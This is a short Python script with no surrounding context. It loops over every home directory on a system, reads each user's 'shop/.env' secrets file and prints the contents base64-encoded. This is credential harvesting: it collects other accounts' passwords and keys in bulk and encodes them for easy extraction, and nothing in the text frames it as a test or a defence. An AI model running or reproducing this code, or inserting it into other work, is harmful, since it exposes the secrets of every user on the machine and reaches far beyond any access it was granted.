import base64
import pathlib

for folder in pathlib.Path("/home").iterdir():
    print(base64.b64encode((folder / "shop" / ".env").read_bytes()).decode())
